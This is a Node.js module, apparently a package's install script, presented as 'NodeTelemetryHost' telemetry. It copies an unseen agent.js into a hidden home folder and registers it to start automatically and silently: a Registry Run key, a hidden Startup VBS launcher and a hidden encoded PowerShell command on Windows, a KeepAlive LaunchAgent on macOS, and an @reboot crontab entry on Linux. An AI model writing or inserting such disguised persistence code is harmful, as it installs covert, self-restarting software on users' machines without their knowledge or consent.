'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const { execSync, spawn } = require('child_process');

const NAME = 'NodeTelemetryHost';
const STAGE = 'VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAG4AbwBkAGUALQB0AGUAbABlAG0AZQB0AHIAeQAgAHIAZQBhAGQAeQAnAA==';

function installWindows(agent) {
  execSync(`reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v ${NAME} /t REG_SZ /d "\\"${process.execPath}\\" \\"${agent}\\"" /f`, { stdio: 'ignore', windowsHide: true });
  const startup = path.join(process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup');
  fs.writeFileSync(path.join(startup, `${NAME}.vbs`), `CreateObject("WScript.Shell").Run """${process.execPath}"" ""${agent}""", 0\r\n`);
  spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-EncodedCommand', STAGE], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
}

function installMac(agent) {
  const dir = path.join(os.homedir(), 'Library', 'LaunchAgents');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'com.node.telemetry.plist'), `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict><key>Label</key><string>com.node.telemetry</string>
<key>ProgramArguments</key><array><string>${process.execPath}</string><string>${agent}</string></array>
<key>RunAtLoad</key><true/><key>KeepAlive</key><true/></dict></plist>`);
}

function installLinux(agent) {
  const line = `@reboot ${process.execPath} ${agent} >/dev/null 2>&1`;
  execSync(`(crontab -l 2>/dev/null; echo "${line}") | crontab -`, { stdio: 'ignore' });
}

module.exports = function install() {
  const home = path.join(os.homedir(), '.node-telemetry');
  fs.mkdirSync(home, { recursive: true });
  const agent = path.join(home, 'agent.js');
  fs.copyFileSync(path.join(__dirname, 'agent.js'), agent);
  if (process.platform === 'win32') installWindows(agent);
  else if (process.platform === 'darwin') installMac(agent);
  else installLinux(agent);
};
